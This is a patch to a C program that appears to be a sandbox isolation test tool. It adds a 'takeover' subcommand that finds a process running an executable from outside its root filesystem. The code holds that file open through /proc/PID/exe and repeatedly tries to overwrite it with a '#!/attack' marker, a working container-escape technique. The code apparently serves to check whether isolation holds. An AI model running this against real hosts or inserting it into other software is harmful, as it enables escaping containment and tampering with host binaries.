@@ -648,6 +648,57 @@ static int executable(const char *pid)
 	return 0;
 }
 
+/*
+ * takeover: hold on to the program of every process that comes and that is none of this root file
+ * system's, and write to it as soon as nobody runs it any more
+ */
+static int takeover(void)
+{
+	struct stat own, other;
+	char path[64];
+	int fd = -1, again;
+	long seen = 0;
+
+	if (stat("/proc/self/exe", &own) < 0)
+		return 1;
+	puts("ready");
+	while (fd < 0) {
+		DIR *proc = opendir("/proc");
+		struct dirent *entry;
+
+		while (fd < 0 && proc && (entry = readdir(proc))) {
+			long pid = strtol(entry->d_name, NULL, 10);
+
+			if (pid <= 1 || pid == getpid())
+				continue;
+			if (pid != seen)
+				printf("saw %ld\n", seen = pid);
+			snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
+			fd = open(path, O_RDONLY | O_CLOEXEC);
+			if (fd >= 0 && fstat(fd, &other) == 0 && other.st_ino == own.st_ino) {
+				close(fd);
+				fd = -1;
+			}
+		}
+		if (proc)
+			closedir(proc);
+	}
+	puts("read ok");
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	for (int i = 0; i < 3000; i++) {
+		const struct timespec pause_ms = { .tv_nsec = 1000000 };
+
+		again = open(path, O_WRONLY | O_CLOEXEC);
+		if (again >= 0) {
+			printf("written %s\n", outcome(write(again, "#!/attack\n", 10)));
+			return 0;
+		}
+		nanosleep(&pause_ms, NULL);
+	}
+	printf("gave up %s\n", outcome(-1));
+	return 0;
+}
+
 /* listen NAME / connect NAME: abstract sockets */
 static int abstract(const char *name, int server)
 {
@@ -783,6 +834,8 @@ int main(int argc, char **argv)
 		spy(argv[2]);
 	if (strcmp(what, "executable") == 0 && argc == 3)
 		return executable(argv[2]);
+	if (strcmp(what, "takeover") == 0)
+		return takeover();
 	if (strcmp(what, "listen") == 0 && argc == 3)
 		return abstract(argv[2], 1);
 	if (strcmp(what, "connect") == 0 && argc == 3)
